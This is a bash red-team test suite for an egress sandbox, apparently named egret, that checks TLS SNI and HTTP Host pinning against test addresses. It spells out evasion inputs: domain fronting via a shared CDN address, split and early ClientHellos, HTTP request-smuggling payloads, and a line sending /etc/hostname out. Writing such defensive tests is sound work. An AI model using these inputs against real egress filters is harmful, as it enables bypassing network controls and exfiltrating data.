# shellcheck shell=bash
# shellcheck disable=SC2034,SC2153
# pinning.sh - SNI pinning's red-team tests (docs/SECURITY.md, "SNI
# pinning"). Sourced by run.sh after vectors.sh; the same conventions.
#
# The world's DNS gives registry.npmjs.org and evil.test one address,
# 203.0.113.11: a CDN front-end with two tenants. The attempt may resolve
# registry.npmjs.org (and github.com, 203.0.113.10 and 2001:db8:2::10),
# never evil.test. Every attack connects to an address the attempt learned
# and asks, in its ClientHello, for a name whose answer did not hold it:
# a tenant TOKEN.cdn.test, or github.com at npm's address. The proof is the
# world's own record: no byte of that ClientHello - its name is the token -
# reaches the sink or the packet capture, however the hello was written.

H="$HELPERS/tlshello"
PIN_ALLOW=(--allow registry.npmjs.org:443 --allow github.com:443)

# In the attempt's log: the TLS denial of the name @1, with @2 its reason.
assert_tls_logged() {	# SNI REASON LOG
	grep -F "\"sni\":\"$1\"" "$3" | grep -qF '"kind":"tls","verdict":"deny","reason":"'"$2"'"' ||
		fail "no TLS denial of $1 ($2) in the log: $(grep -F '"tls"' "$3" | head -n 5)"
}

# run_in, but with the policy file POLICY instead of --policy none.
run_in_policy() {	# NAME POLICY EGRET-ARGS...
	local name=$1 policy=$2
	shift 2
	STEPS_ERR="$TDIR/$name.in.err"
	timeout -k 5 60 "${WORLD_IN_CLIENT[@]}" "$EGRET" run --policy "$policy" \
		--user "$TEST_USER" "$@" -- \
		sh "$TDIR/steps.sh" "$TDIR/steps.$name" "$STEPS_ERR" >"$TDIR/out" 2>"$TDIR/err"
	RC=$? OUT=$(cat "$TDIR/out") ERR=$(cat "$TDIR/err")
}

# The sink's line for TOKEN says the connection asked for NAME.
arrived_tls() {		# TOKEN DEST NAME
	local line
	arrived_at "$1" "$2"
	line=$(grep -F -- "data=$1" "$WORLD_LOG" | head -n 1)
	[[ $line == *" tls=$3 data=$1" ]] || fail "$1 arrived without tls=$3: $line"
}

# IPv4: every way of writing the hello, and every hello egret refuses.
t_rt_sni_pinning() {
	local c a1 a2 a3 a4 a5 a6 d1 d2 d3 d4 d5 d6 d7 d8 d9 d10 d11 d12 d13 d14 d15 d16 d17 log
	c=$(tk ctl) a1=$(tk a) a2=$(tk a) a3=$(tk a) a4=$(tk a) a5=$(tk a) a6=$(tk a)
	d1=$(tk d) d2=$(tk d) d3=$(tk d) d4=$(tk d) d5=$(tk d) d6=$(tk d) d7=$(tk d)
	d8=$(tk d) d9=$(tk d) d10=$(tk d) d11=$(tk d) d12=$(tk d) d13=$(tk d) d14=$(tk d)
	d15=$(tk d) d16=$(tk d) d17=$(tk d)
	log="$TDIR/pin.log"
	steps in <<EOF
control $P tcp 203.0.113.10 80 $c
resolve getent ahostsv4 registry.npmjs.org github.com | awk '{ print \$1 }' | sort -u | tr '\n' ' '
allowed $H --data $a1 203.0.113.11 443 registry.npmjs.org
blocking $H 203.0.113.11 443 $d1.cdn.test
nonblock $H --nonblock 203.0.113.11 443 $d2.cdn.test
split $H --split 1 203.0.113.11 443 $d3.cdn.test
split-allowed $H --split 1 --data $a2 203.0.113.11 443 registry.npmjs.org
early $H --early --wait-ms 6000 203.0.113.11 443 $d4.cdn.test
fastopen $H --fastopen --wait-ms 6000 203.0.113.11 443 $d5.cdn.test
fastopen-connect $H --fastopen-connect --wait-ms 6000 203.0.113.11 443 $d6.cdn.test
fastopen-allowed $H --fastopen --data $a3 203.0.113.11 443 registry.npmjs.org
mapped $H --v4mapped 203.0.113.11 443 $d7.cdn.test
mapped-allowed $H --v4mapped --data $a4 203.0.113.11 443 registry.npmjs.org
pq-last $H --pq --sni-last --pad 600 203.0.113.11 443 $d8.cdn.test
pq-last-allowed $H --pq --sni-last --pad 600 --data $a5 203.0.113.11 443 registry.npmjs.org
another-name $H --data $d9 203.0.113.11 443 github.com
records $H --records 2 --data $d10 203.0.113.11 443 registry.npmjs.org
ech $H --ech --data $d11 203.0.113.11 443 registry.npmjs.org
no-sni $H --no-sni --data $d12 203.0.113.11 443 -
plain $P tcp 203.0.113.11 443 $d13
quic $P udp 203.0.113.11 443 $d14
oob $H --oob --wait-ms 6000 --data $d15 203.0.113.11 443 registry.npmjs.org
mptcp-allowed $H --mptcp --data $a6 203.0.113.11 443 registry.npmjs.org
mptcp $H --mptcp --wait-ms 6000 203.0.113.11 443 $d16.cdn.test
mptcp-split $H --mptcp --split 1 --wait-ms 6000 203.0.113.11 443 $d17.cdn.test
zerocopy /usr/bin/python3 -c 'import socket; socket.socket().setsockopt(socket.SOL_SOCKET, 60, 1)' 2>&1 | tail -n 1
ulp /usr/bin/python3 -c 'import socket; socket.socket().setsockopt(socket.IPPROTO_TCP, 31, b"tls")' 2>&1 | tail -n 1
sendfile /usr/bin/python3 -c 'import os, socket; s = socket.create_connection(("203.0.113.11", 443)); f = os.open("/etc/hostname", os.O_RDONLY); os.sendfile(s.fileno(), f, 0, 1)' 2>&1 | tail -n 1
splice /usr/bin/python3 -c 'import os; r, w = os.pipe(); f = os.open("/etc/hostname", os.O_RDONLY); os.splice(f, w, 1)' 2>&1 | tail -n 1
EOF
	run_in in "${CONTROL_ALLOW[@]}" "${PIN_ALLOW[@]}" --dns-upstream "$WORLD_DNS" --log "$log"
	check_control "$c"
	expect resolve "203.0.113.10 203.0.113.11 "
	expect_re allowed '^ok sent='
	arrived_tls "$a1" 203.0.113.11:443 registry.npmjs.org
	# Refused at the send: nothing was queued, the writer sees EACCES.
	expect blocking "err EACCES"
	expect nonblock "err EACCES"
	expect split "err EACCES"
	expect_re split-allowed '^ok sent='
	arrived_tls "$a2" 203.0.113.11:443 registry.npmjs.org
	# Written before sk_msg saw the socket: refused on the wire, the
	# connection then aborted by the kernel.
	# (A write that starts before the handshake ends is held in the
	# kernel until it does; on a fast link sk_msg is on by then and it
	# fails with EACCES, or it leaves before, and the wire refuses it.)
	expect_re early '^err (EACCES|ETIMEDOUT)$'
	expect fastopen "err ETIMEDOUT"
	expect fastopen-connect "err ETIMEDOUT"
	expect_re fastopen-allowed '^ok sent='
	arrived_tls "$a3" 203.0.113.11:443 registry.npmjs.org
	expect mapped "err EACCES"
	expect_re mapped-allowed '^ok sent='
	arrived_tls "$a4" 203.0.113.11:443 registry.npmjs.org
	expect pq-last "err EACCES"
	expect_re pq-last-allowed '^ok sent='
	arrived_tls "$a5" 203.0.113.11:443 registry.npmjs.org
	# An allowed name, but not one whose answer held this address.
	expect another-name "err EACCES"
	expect records "err EACCES"
	expect ech "err EACCES"
	expect no-sni "err EACCES"
	expect plain "err EACCES"
	expect quic "$REFUSED"
	# Urgent data: a receiver would read the record less its last byte,
	# and the next: refused on the wire, the connection aborted.
	expect oob "err ETIMEDOUT"
	# MPTCP: its subflows are the kernel's TCP sockets, which never reach
	# the sockhash; the hello is judged on the wire, whole or a byte at a
	# time, and the connection aborted.
	expect_re mptcp-allowed '^ok sent='
	arrived_tls "$a6" 203.0.113.11:443 registry.npmjs.org
	expect mptcp "err ETIMEDOUT"
	expect mptcp-split "err ETIMEDOUT"
	# Pages the kernel would send without copying them: the judged bytes
	# could change before they leave. Zero-copy and ULPs are refused
	# (EPERM), sendfile and splice fail as unsupported (EINVAL).
	expect_re zerocopy 'PermissionError: \[Errno 1\]'
	expect_re ulp 'PermissionError: \[Errno 1\]'
	expect_re sendfile 'OSError: \[Errno 22\] Invalid argument'
	expect_re splice 'OSError: \[Errno 22\] Invalid argument'
	nowhere "$d1" "$d2" "$d3" "$d4" "$d5" "$d6" "$d7" "$d8" "$d9" "$d10" "$d11" \
		"$d12" "$d13" "$d14" "$d15" "$d16" "$d17"
	assert_tls_logged "$d1.cdn.test" sni-not-learned "$log"
	assert_tls_logged "$d4.cdn.test" sni-not-learned "$log"
	assert_tls_logged "$d5.cdn.test" sni-not-learned "$log"
	assert_tls_logged github.com sni-not-learned "$log"
	grep -q '"kind":"tls","verdict":"deny","reason":"ech"' "$log" ||
		fail "no ECH denial in the log"
	grep -q '"kind":"sendmsg","verdict":"deny","reason":"quic"' "$log" ||
		fail "no QUIC denial in the log"
	[[ $ERR == *"TLS to $d1.cdn.test at 203.0.113.11:443/tcp"* ]] ||
		fail "the exit summary does not name $d1.cdn.test: $ERR"
}

# IPv6: the same judgement on the IPv6 path (egress6, connect6).
t_rt_sni_pinning_v6() {
	local c a1 a2 d1 d2 d3 d4 d5 d6
	c=$(tk ctl) a1=$(tk a) a2=$(tk a)
	d1=$(tk d) d2=$(tk d) d3=$(tk d) d4=$(tk d) d5=$(tk d) d6=$(tk d)
	steps in <<EOF
control $P tcp 203.0.113.10 80 $c
resolve getent ahostsv6 github.com | awk 'NR == 1 { print \$1 }'
allowed $H --data $a1 2001:db8:2::10 443 github.com
blocking $H 2001:db8:2::10 443 $d1.cdn.test
split $H --split 7 2001:db8:2::10 443 $d2.cdn.test
early $H --early --wait-ms 6000 2001:db8:2::10 443 $d3.cdn.test
fastopen $H --fastopen --wait-ms 6000 2001:db8:2::10 443 $d4.cdn.test
fastopen-allowed $H --fastopen --data $a2 2001:db8:2::10 443 github.com
fastopen-big $H --fastopen --pq --wait-ms 6000 --data $d6 2001:db8:2::10 443 github.com
quic $P udp 2001:db8:2::10 443 $d5
EOF
	run_in in "${CONTROL_ALLOW[@]}" "${PIN_ALLOW[@]}" --dns-upstream "$WORLD_DNS"
	check_control "$c"
	expect resolve 2001:db8:2::10
	expect_re allowed '^ok sent='
	arrived_tls "$a1" "[2001:db8:2::10]:443" github.com
	expect blocking "err EACCES"
	expect split "err EACCES"
	expect_re early '^err (EACCES|ETIMEDOUT)$'
	expect fastopen "err ETIMEDOUT"
	expect_re fastopen-allowed '^ok sent='
	arrived_tls "$a2" "[2001:db8:2::10]:443" github.com
	# A hello larger than the SYN has room for: the SYN holds part of a
	# record, which cannot be judged - refused, even for an allowed name.
	expect fastopen-big "err ETIMEDOUT"
	expect quic "$REFUSED"
	nowhere "$d1" "$d2" "$d3" "$d4" "$d5" "$d6"
}

# What stays as it was: a static address entry is by address alone (any
# name), `pin: false` on a host opens its addresses to any name, and
# --no-pinning turns it off for the attempt.
t_rt_sni_pinning_exempt() {
	local a1 a2 a3 dir policy
	a1=$(tk a) a2=$(tk a) a3=$(tk a)
	# egret reads a policy only from a directory only root can write.
	dir=$(mktemp -d /tmp/egret-pinpol.XXXXXX)
	policy="$dir/policy.yaml"
	cat >"$policy" <<'EOF'
hosts:
  - {host: registry.npmjs.org, ports: [443], pin: false}
EOF
	steps in <<EOF
static $H --data $a1 203.0.113.10 443 $a1.cdn.test
EOF
	run_in in --allow 203.0.113.10:443
	expect_re static '^ok sent='
	arrived_tls "$a1" 203.0.113.10:443 "$a1.cdn.test"

	steps unpinned <<EOF
resolve getent ahostsv4 registry.npmjs.org | awk 'NR == 1 { print \$1 }'
tenant $H --data $a2 203.0.113.11 443 $a2.cdn.test
EOF
	run_in_policy unpinned "$policy" --dns-upstream "$WORLD_DNS"
	rm -rf "$dir"
	expect resolve 203.0.113.11
	expect_re tenant '^ok sent='
	arrived_tls "$a2" 203.0.113.11:443 "$a2.cdn.test"

	steps off <<EOF
resolve getent ahostsv4 registry.npmjs.org | awk 'NR == 1 { print \$1 }'
tenant $H --data $a3 203.0.113.11 443 $a3.cdn.test
EOF
	run_in off --allow registry.npmjs.org:443 --dns-upstream "$WORLD_DNS" --no-pinning
	expect resolve 203.0.113.11
	expect_re tenant '^ok sent='
	arrived_tls "$a3" 203.0.113.11:443 "$a3.cdn.test"
}

# A connection refused on the wire keeps its ClientHello queued and tries
# it again; if the attempt ends first, egret must destroy its sockets
# before it detaches the programs, or the next try leaves unjudged. To be
# sure the hello takes the wire path (not sk_msg), the world drops the
# first SYN (and only it: every other one, from the first, a counter
# and no clock decides): write() starts while the socket is still
# connecting, and goes on the old way once the retried SYN is answered
# (about 1 s; --wait-ms leaves ten). The writer then gives up at once,
# the attempt ends, and the world is watched for longer than the
# retransmissions that would carry the hello.
t_rt_sni_pinning_teardown() {
	local d1 dropped
	local rule=(INPUT -p tcp --syn -d 203.0.113.11 --dport 443
		-m statistic --mode nth --every 2 --packet 0 -j DROP)
	d1=$(tk d)
	steps in <<EOF
resolve getent ahostsv4 registry.npmjs.org | awk 'NR == 1 { print \$1 }'
early $H --early --no-wait --wait-ms 10000 --data $d1 203.0.113.11 443 $d1.cdn.test
EOF
	world_exec_world iptables -w -I "${rule[@]}" || fail "iptables in the world"
	# shellcheck disable=SC2064 # expanded now: the local is gone when it runs
	trap "world_exec_world iptables -w -D ${rule[*]} 2>/dev/null" EXIT
	run_in in "${PIN_ALLOW[@]}" --dns-upstream "$WORLD_DNS"
	dropped=$(world_exec_world iptables -w -L INPUT -v -x -n |
		awk '$3 == "DROP" && /statistic/ { print $1; exit }')
	world_exec_world iptables -w -D "${rule[@]}"
	trap - EXIT
	[ "${dropped:-0}" -ge 1 ] || fail "control: the world never dropped the first SYN (counter '${dropped}')"
	expect resolve 203.0.113.11
	expect_re early '^sent [0-9]+$'
	sleep 4
	nowhere "$d1"
}

# A static prefix the policy pins (`pin: true`): by address it is open,
# but TLS to it must name a host whose answer held the address - before
# any answer, no name at all.
t_rt_sni_pinning_static_pinned() {
	local a1 d1 d2 dir policy
	a1=$(tk a) d1=$(tk d) d2=$(tk d)
	dir=$(mktemp -d /tmp/egret-pinpol.XXXXXX)
	policy="$dir/policy.yaml"
	cat >"$policy" <<'EOF'
hosts: ["github.com:443"]
cidrs:
  - {cidr: 203.0.113.10/32, ports: [443], pin: true}
EOF
	steps pinned <<EOF
before $H --data $d1 203.0.113.10 443 github.com
resolve getent ahostsv4 github.com | awk 'NR == 1 { print \$1 }'
after $H --data $a1 203.0.113.10 443 github.com
tenant $H 203.0.113.10 443 $d2.cdn.test
EOF
	run_in_policy pinned "$policy" --dns-upstream "$WORLD_DNS"
	rm -rf "$dir"
	expect before "err EACCES"
	expect resolve 203.0.113.10
	expect_re after '^ok sent='
	arrived_tls "$a1" 203.0.113.10:443 github.com
	expect tenant "err EACCES"
	nowhere "$d1" "$d2"
}

# ---- Host pinning: plain HTTP on port 80 -----------------------------------

# A request, escaped as tlshello --http reads it: METHOD TARGET, then
# field lines, then the empty line. Usage: req METHOD TARGET FIELD...
req() {
	local m=$1 t=$2 f
	shift 2
	printf '%s %s HTTP/1.1\\r\\n' "$m" "$t"
	for f in "$@"; do
		printf '%s\\r\\n' "$f"
	done
	printf '\\r\\n'
}

# The decoded length of an escaped request (for --cut).
req_len() {
	printf '%b' "$1" | wc -c
}

# A request for the tenant of the caller's token d[N], the token only in
# its Host line: after the request line egret refuses a hidden one at.
http_hidden() {	# N
	req GET / "Host: ${d[$1]}.cdn.test"
}

# In the attempt's log: the HTTP denial of the host @1, for reason @2.
assert_http_logged() {	# HOST REASON LOG
	grep -F "\"host\":\"$1\"" "$3" | grep -qF '"kind":"http","verdict":"deny","reason":"'"$2"'"' ||
		fail "no HTTP denial of $1 ($2) in the log: $(grep -F '"http"' "$3" | head -n 5)"
}

# The sink's line holding TOKEN is a connection to DEST (e.g.
# 203.0.113.11:80): requests arrive whole, so the token is inside data=.
arrived_http() {	# TOKEN DEST
	local line
	arrived "$1"
	line=$(grep -F -- "$1" "$WORLD_LOG" | head -n 1)
	assert_eq "$2" "$(echo "$line" | awk '{ print $2 }')" "where $1 arrived ($line)"
}

# The world gives registry.npmjs.org and evil.test one address,
# 203.0.113.11; the attempt may resolve registry.npmjs.org and github.com
# (203.0.113.10), port 80. Every attack connects to 203.0.113.11:80 and
# names another host in a request - the tenant TOKEN.cdn.test, or
# github.com - however the requests are cut, chained or dressed up; or
# sends what egret cannot judge. The evidence is the world's record: the
# sink logs each request head the moment it is whole, as a lenient server
# would act on it, and the capture each packet; no token may be in either.
# A refused connection is dropped on the wire and aborted at its next
# retransmission timeout: ETIMEDOUT. (Bytes of a head before the line
# that refuses it leave - split-host, byte-at-a-time: the token is only
# in that line - and no server acts on an unfinished head.)
t_rt_http_pinning() {
	local c a1 a2 a3 a4 a5 a6 a7 d log i n ok1 ok2 bad hidden
	c=$(tk ctl) a1=$(tk a) a2=$(tk a) a3=$(tk a) a4=$(tk a) a5=$(tk a) a6=$(tk a) a7=$(tk a)
	for i in $(seq 1 24); do
		d[i]=$(tk d)
	done
	hidden=$(req GET "/${d[23]}" "Host: ${d[23]}.cdn.test")
	log="$TDIR/http.log"
	ok1=$(req GET "/$a2" "Host: registry.npmjs.org")
	ok2=$(req GET "/$a3" "Host: registry.npmjs.org")
	bad=$(req GET / "Host: ${d[3]}.cdn.test")
	n=$(req_len "$ok1")
	steps in <<EOF
control $P tcp 203.0.113.10 80 $c
resolve getent ahostsv4 registry.npmjs.org github.com | awk '{ print \$1 }' | sort -u | tr '\n' ' '
allowed $H --http '$(req GET "/$a1" "Host: registry.npmjs.org" "User-Agent: Debian APT-HTTP/1.3" "Accept: */*")' 203.0.113.11 80 -
keepalive-allowed $H --cut $n --http '$ok1$ok2' 203.0.113.11 80 -
pipelined-allowed $H --http '$(req POST "/$a4" "Host: REGISTRY.npmjs.org:80" "Content-Length: 5")hello$(req HEAD /x "Host: registry.npmjs.org")' 203.0.113.11 80 -
absolute-allowed $H --http '$(req GET "http://registry.npmjs.org/$a5" "Host: registry.npmjs.org")' 203.0.113.11 80 -
split-allowed $H --split 1 --http '$(req GET "/$a6" "Host: registry.npmjs.org")' 203.0.113.11 80 -
fastopen-allowed $H --fastopen --http '$(req GET "/$a7" "Host: registry.npmjs.org")' 203.0.113.11 80 -
plain $H --wait-ms 6000 --http '$(req GET "/${d[1]}" "Host: ${d[1]}.cdn.test")' 203.0.113.11 80 -
another-name $H --wait-ms 6000 --http '$(req GET "/${d[2]}" "Host: github.com")' 203.0.113.11 80 -
keepalive $H --wait-ms 6000 --cut $n --http '$ok1$bad' 203.0.113.11 80 -
pipelined $H --wait-ms 6000 --http '$ok1$(req GET "/${d[4]}" "Host: ${d[4]}.cdn.test")' 203.0.113.11 80 -
empty-body $H --wait-ms 6000 --http '$(req POST / "Host: registry.npmjs.org" "Content-Length: 0")$(req GET "/${d[5]}" "Host: ${d[5]}.cdn.test")' 203.0.113.11 80 -
body $H --wait-ms 6000 --http '$(req POST / "Host: registry.npmjs.org" "Content-Length: 2")ab$(req GET "/${d[6]}" "Host: ${d[6]}.cdn.test")' 203.0.113.11 80 -
split-host $H --wait-ms 6000 --cut 18 --http '$(req GET / "Host: ${d[7]}.cdn.test")' 203.0.113.11 80 -
byte-at-a-time $H --wait-ms 6000 --split 1 --http '$(req GET / "Host: ${d[8]}.cdn.test")' 203.0.113.11 80 -
absolute $H --wait-ms 6000 --http '$(req GET "http://${d[9]}.cdn.test/" "Host: registry.npmjs.org")' 203.0.113.11 80 -
two-hosts $H --wait-ms 6000 --http '$(req GET "/${d[10]}" "Host: registry.npmjs.org" "Host: ${d[10]}.cdn.test")' 203.0.113.11 80 -
no-host $H --wait-ms 6000 --http 'GET /${d[11]} HTTP/1.0\r\n\r\n' 203.0.113.11 80 -
te-and-length $H --wait-ms 6000 --http '$(req POST / "Host: registry.npmjs.org" "Content-Length: $(req_len "0\r\n\r\n$(http_hidden 12)")" "Transfer-Encoding: chunked")0\r\n\r\n$(http_hidden 12)' 203.0.113.11 80 -
h2-prior-knowledge $H --wait-ms 6000 --http 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${d[13]}' 203.0.113.11 80 -
connect $H --wait-ms 6000 --http '$(req CONNECT "${d[14]}.cdn.test:443" "Host: ${d[14]}.cdn.test:443")' 203.0.113.11 80 -
upgrade $H --wait-ms 6000 --http '$(req GET "/${d[15]}" "Host: registry.npmjs.org" "Upgrade: h2c" "Connection: Upgrade")' 203.0.113.11 80 -
forwarded-host $H --wait-ms 6000 --http '$(req GET "/${d[16]}" "Host: registry.npmjs.org" "X-Forwarded-Host: ${d[16]}.cdn.test")' 203.0.113.11 80 -
not-http PROBE_HTTP= $P tcp 203.0.113.11 80 ${d[17]}
fastopen $H --fastopen --wait-ms 6000 --http '$(req GET "/${d[18]}" "Host: ${d[18]}.cdn.test")' 203.0.113.11 80 -
oob $H --oob --wait-ms 6000 --http '$(req GET / "Host: registry.npmjs.org")' --data ${d[19]} 203.0.113.11 80 -
mptcp $H --mptcp --wait-ms 6000 --http '$(req GET "/${d[20]}" "Host: ${d[20]}.cdn.test")' 203.0.113.11 80 -
early $H --early --wait-ms 6000 --http '$(req GET "/${d[21]}" "Host: ${d[21]}.cdn.test")' 203.0.113.11 80 -
bare-cr $H --wait-ms 6000 --http 'GET /${d[22]} HTTP/1.1\r\nHost: registry.npmjs.org\rHost: ${d[22]}.cdn.test\r\n\r\n' 203.0.113.11 80 -
get-body $H --wait-ms 6000 --http '$(req GET / "Host: registry.npmjs.org" "Content-Length: $(req_len "$hidden")")$hidden' 203.0.113.11 80 -
expect-other $H --wait-ms 6000 --http '$(req POST "/${d[24]}" "Host: registry.npmjs.org" "Expect: 100-continue, x" "Content-Length: 5")hello' 203.0.113.11 80 -
EOF
	run_in in "${CONTROL_ALLOW[@]}" --allow registry.npmjs.org:80 --allow github.com:80 \
		--dns-upstream "$WORLD_DNS" --log "$log"
	check_control "$c"
	expect resolve "203.0.113.10 203.0.113.11 "
	for i in allowed keepalive-allowed pipelined-allowed absolute-allowed split-allowed \
		fastopen-allowed; do
		expect_re "$i" '^ok sent='
	done
	for i in "$a1" "$a2" "$a3" "$a4" "$a5" "$a6" "$a7"; do
		arrived_http "$i" 203.0.113.11:80
	done
	for i in plain another-name keepalive pipelined empty-body body split-host \
		byte-at-a-time absolute two-hosts no-host te-and-length h2-prior-knowledge \
		connect upgrade forwarded-host fastopen oob mptcp early bare-cr get-body \
		expect-other; do
		expect "$i" "err ETIMEDOUT"
	done
	expect not-http "err ETIMEDOUT"
	nowhere "${d[@]}"
	assert_http_logged "${d[1]}.cdn.test" host-not-learned "$log"
	assert_http_logged github.com host-not-learned "$log"
	assert_http_logged "${d[9]}.cdn.test" host-not-learned "$log"
	grep -q '"kind":"http","verdict":"deny","reason":"not-http"' "$log" ||
		fail "no not-http denial in the log"
	[[ $ERR == *"HTTP to ${d[1]}.cdn.test at 203.0.113.11:80/tcp"* ]] ||
		fail "the exit summary does not name ${d[1]}.cdn.test: $ERR"
}

# Uploads on port 80 (docs/SECURITY.md, "Host pinning", "Bodies"): a
# counted body behind `Expect: 100-continue` and a chunked body pass to
# the allowed host, sent whole, a byte at a time, or as curl sends them
# (the head, a pause, the body). Then a request hidden where a server
# that does not read a body, or frames it otherwise than egret, would
# read it as its next request: in an expectation body (one write, after
# the pause, a byte at a time), in chunk data behind a chunk size that
# overflows 64 bits or a `Transfer_Encoding` some servers fold to
# `Transfer-Encoding`, in chunk extensions (behind a bare LF; a request
# line for a server that does not know chunked), in trailers (a Host a
# server may merge into the head; a request line for a server that does
# not read trailers). Each hidden request names the tenant TOKEN.cdn.test
# on a line after the one egret refuses, so even a byte at a time none of
# it leaves: the token is nowhere in the world's record.
t_rt_http_pinning_bodies() {
	local c a1 a2 a3 a4 a5 a6 d log i head n hidden_head m chunked
	c=$(tk ctl) a1=$(tk a) a2=$(tk a) a3=$(tk a) a4=$(tk a) a5=$(tk a) a6=$(tk a)
	for i in $(seq 1 9); do
		d[i]=$(tk d)
	done
	log="$TDIR/http-bodies.log"
	# curl -T's head: the body goes after a pause (its 1 s wait, or the
	# server's 100), in a write of its own.
	head=$(req PUT "/$a2" "Host: registry.npmjs.org" "User-Agent: curl/7.88.1" \
		"Content-Length: 8" "Expect: 100-continue")
	n=$(req_len "$head")
	hidden_head=$(req PUT / "Host: registry.npmjs.org" "User-Agent: curl/7.88.1" \
		"Content-Length: $(req_len "$(http_hidden 2)")" "Expect: 100-continue")
	m=$(req_len "$hidden_head")
	chunked=$(req POST "/$a3" "Host: registry.npmjs.org" "Transfer-Encoding: chunked" \
		"Expect: 100-continue")
	steps in <<EOF
control $P tcp 203.0.113.10 80 $c
resolve getent ahostsv4 registry.npmjs.org | awk '{ print \$1 }' | sort -u | tr '\n' ' '
expect-allowed $H --http '$(req POST "/$a1" "Host: registry.npmjs.org" "Expect: 100-continue" "Content-Length: 5")hello' 203.0.113.11 80 -
expect-later-allowed $H --cut $n --http '${head}12345678$(req GET "/$a4" "Host: registry.npmjs.org")' 203.0.113.11 80 -
chunked-allowed $H --http '${chunked}$(printf %x ${#a5});part=1\r\n$a5\r\n5\r\nhello\r\n0\r\nX-Checksum: 1\r\n\r\n$(req HEAD /x "Host: registry.npmjs.org")' 203.0.113.11 80 -
chunked-bytes-allowed $H --split 1 --http '$(req PUT / "Host: registry.npmjs.org" "Transfer-Encoding: chunked")$(printf %x ${#a6})\r\n$a6\r\n0\r\n\r\n' 203.0.113.11 80 -
expect-body $H --wait-ms 6000 --http '$(req POST / "Host: registry.npmjs.org" "Expect: 100-continue" "Content-Length: $(req_len "$(http_hidden 1)")")$(http_hidden 1)' 203.0.113.11 80 -
expect-body-later $H --wait-ms 6000 --cut $m --http '$hidden_head$(http_hidden 2)' 203.0.113.11 80 -
expect-body-bytes $H --wait-ms 6000 --split 1 --http '$(req POST / "Host: registry.npmjs.org" "Expect: 100-continue" "Content-Length: $(req_len "$(http_hidden 3)")")$(http_hidden 3)' 203.0.113.11 80 -
chunk-size-overflow $H --wait-ms 6000 --http '$(req POST / "Host: registry.npmjs.org" "Transfer-Encoding: chunked")10000000000000000\r\n\r\n$(http_hidden 4)' 203.0.113.11 80 -
te-underscore $H --wait-ms 6000 --http '$(req POST / "Host: registry.npmjs.org" "Transfer_Encoding: chunked" "Content-Length: $(req_len "0\r\n\r\n$(http_hidden 5)")")0\r\n\r\n$(http_hidden 5)' 203.0.113.11 80 -
chunk-ext-lf $H --wait-ms 6000 --http '$(req POST / "Host: registry.npmjs.org" "Transfer-Encoding: chunked")0;a\n\r\n$(http_hidden 6)' 203.0.113.11 80 -
chunk-ext-request $H --wait-ms 6000 --http '$(req POST / "Host: registry.npmjs.org" "Transfer-Encoding: chunked")0;a=x http://${d[7]}.cdn.test/ HTTP/1.1\r\nHost: ${d[7]}.cdn.test\r\n\r\n' 203.0.113.11 80 -
trailer-host $H --wait-ms 6000 --http '$(req POST / "Host: registry.npmjs.org" "Transfer-Encoding: chunked")0\r\nHost: ${d[8]}.cdn.test\r\n\r\n' 203.0.113.11 80 -
trailer-request $H --wait-ms 6000 --http '$(req POST / "Host: registry.npmjs.org" "Transfer-Encoding: chunked")0\r\n$(http_hidden 9)' 203.0.113.11 80 -
EOF
	run_in in "${CONTROL_ALLOW[@]}" --allow registry.npmjs.org:80 \
		--dns-upstream "$WORLD_DNS" --log "$log"
	check_control "$c"
	expect resolve "203.0.113.11 "
	for i in expect-allowed expect-later-allowed chunked-allowed chunked-bytes-allowed; do
		expect_re "$i" '^ok sent='
	done
	for i in "$a1" "$a2" "$a3" "$a4" "$a5" "$a6"; do
		arrived_http "$i" 203.0.113.11:80
	done
	for i in expect-body expect-body-later expect-body-bytes chunk-size-overflow \
		te-underscore chunk-ext-lf chunk-ext-request trailer-host trailer-request; do
		expect "$i" "err ETIMEDOUT"
	done
	nowhere "${d[@]}"
	grep -q '"kind":"http","verdict":"deny","reason":"not-http"' "$log" ||
		fail "no not-http denial in the log"
}

# What stays open on port 80, as for TLS: a static address entry is by
# address alone (any Host), `pin: false` on a host opens its addresses to
# any Host and any bytes, `http_ports: []` and --no-pinning turn Host
# pinning off; --audit logs a refusal as would-deny and lets it through.
t_rt_http_pinning_exempt() {
	local a1 a2 a3 a4 a5 dir policy log
	a1=$(tk a) a2=$(tk a) a3=$(tk a) a4=$(tk a) a5=$(tk a)
	dir=$(mktemp -d /tmp/egret-pinpol.XXXXXX)
	log="$TDIR/http-audit.log"
	cat >"$dir/unpinned.yaml" <<'EOF'
hosts:
  - {host: registry.npmjs.org, ports: [80], pin: false}
EOF
	cat >"$dir/off.yaml" <<'EOF'
pinning: {http_ports: []}
hosts: ["registry.npmjs.org:80"]
EOF
	steps in <<EOF
static $H --http '$(req GET "/$a1" "Host: $a1.cdn.test")' 203.0.113.10 80 -
EOF
	run_in in --allow 203.0.113.10:80
	expect_re static '^ok sent='
	arrived_http "$a1" 203.0.113.10:80

	steps unpinned <<EOF
resolve getent ahostsv4 registry.npmjs.org | awk 'NR == 1 { print \$1 }'
tenant $H --http '$(req GET "/$a2" "Host: $a2.cdn.test")' 203.0.113.11 80 -
raw PROBE_HTTP= $P tcp 203.0.113.11 80 $a3
EOF
	run_in_policy unpinned "$dir/unpinned.yaml" --dns-upstream "$WORLD_DNS"
	expect resolve 203.0.113.11
	expect_re tenant '^ok sent='
	arrived_http "$a2" 203.0.113.11:80
	expect raw ok
	arrived_http "$a3" 203.0.113.11:80

	steps off <<EOF
resolve getent ahostsv4 registry.npmjs.org | awk 'NR == 1 { print \$1 }'
tenant $H --http '$(req GET "/$a4" "Host: $a4.cdn.test")' 203.0.113.11 80 -
EOF
	run_in_policy off "$dir/off.yaml" --dns-upstream "$WORLD_DNS"
	rm -rf "$dir"
	expect resolve 203.0.113.11
	expect_re tenant '^ok sent='
	arrived_http "$a4" 203.0.113.11:80

	steps audit <<EOF
resolve getent ahostsv4 registry.npmjs.org | awk 'NR == 1 { print \$1 }'
tenant $H --http '$(req GET "/$a5" "Host: $a5.cdn.test")' 203.0.113.11 80 -
EOF
	run_in audit --allow registry.npmjs.org:80 --dns-upstream "$WORLD_DNS" --audit --log "$log"
	expect resolve 203.0.113.11
	expect_re tenant '^ok sent='
	arrived_http "$a5" 203.0.113.11:80
	grep -F "\"host\":\"$a5.cdn.test\"" "$log" |
		grep -qF '"kind":"http","verdict":"would-deny","reason":"host-not-learned"' ||
		fail "--audit: no would-deny of $a5.cdn.test in the log: $(grep -F '"http"' "$log" | head -n 3)"
}

# ---- the denial feed (issue 43) --------------------------------------------

